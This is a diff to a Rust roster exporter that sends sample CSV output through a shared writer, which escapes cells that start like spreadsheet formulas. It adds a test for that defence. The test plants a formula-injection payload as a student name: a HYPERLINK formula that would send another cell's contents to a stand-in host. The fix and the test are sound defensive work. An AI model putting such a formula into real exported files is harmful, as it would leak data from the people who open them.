@@ -8,6 +8,7 @@ use std::path::Path;
 use rust_xlsxwriter::{Format, Workbook, XlsxError};
 
 use crate::roster::Student;
+use crate::tabular::CsvOut;
 
 /// The header as the sample file writes it.
 pub const HEADER: [&str; 15] = [
@@ -104,11 +105,25 @@ fn write_xlsx(path: &Path, title: &str, students: &[Student]) -> Result<(), Samp
 }
 
 fn write_csv(path: &Path, title: &str, students: &[Student], gbk: bool) -> Result<(), SampleError> {
-    let mut text = format!("{title}\r\n{}\r\n", HEADER.join(","));
-    for (i, s) in students.iter().enumerate() {
-        text.push_str(&cells(i, s).join(","));
-        text.push_str("\r\n");
-    }
+    let io = |source| SampleError::Io {
+        path: path.display().to_string(),
+        source,
+    };
+    // Through the one CSV writer, so a cell that starts like a formula is written as text.
+    let mut w = CsvOut::new(Vec::new());
+    let mut write = || -> csv::Result<()> {
+        w.write_record([title])?;
+        w.write_record(HEADER)?;
+        for (i, s) in students.iter().enumerate() {
+            w.write_record(cells(i, s))?;
+        }
+        Ok(())
+    };
+    write().map_err(|e| io(e.into()))?;
+    let text = w
+        .into_inner()
+        .and_then(|b| String::from_utf8(b).map_err(std::io::Error::other))
+        .map_err(io)?;
     let bytes = if gbk {
         encoding_rs::GBK.encode(&text).0.into_owned()
     } else {
@@ -116,8 +131,40 @@ fn write_csv(path: &Path, title: &str, students: &[Student], gbk: bool) -> Resul
         b.extend_from_slice(text.as_bytes());
         b
     };
-    std::fs::write(path, bytes).map_err(|source| SampleError::Io {
-        path: path.display().to_string(),
-        source,
-    })
+    std::fs::write(path, bytes).map_err(io)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::demo::{generate_roster, DemoOptions};
+
+    /// The sample CSV goes through the one CSV writer: a name that starts like a formula
+    /// is written with an apostrophe in front.
+    #[test]
+    fn a_formula_like_name_is_written_as_text() {
+        let mut students = generate_roster(DemoOptions {
+            students: 3,
+            seed: 1,
+            as_published: false,
+        });
+        students[0].name = "=HYPERLINK(\"http://x/?\"&E3,\"a\")".into();
+        students[1].class_name = "+8613800000000".into();
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("s.csv");
+        write(&path, "示例名单", &students, false).unwrap();
+        let bytes = std::fs::read(&path).unwrap();
+        let rows: Vec<csv::StringRecord> = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(&bytes[3..])
+            .records()
+            .map(Result::unwrap)
+            .collect();
+        assert_eq!(&rows[0][0], "示例名单");
+        assert_eq!(rows[1].iter().collect::<Vec<_>>(), HEADER);
+        assert_eq!(&rows[2][2], "'=HYPERLINK(\"http://x/?\"&E3,\"a\")");
+        assert_eq!(&rows[3][7], "'+8613800000000");
+        assert_eq!(&rows[4][2], students[2].name);
+    }
 }
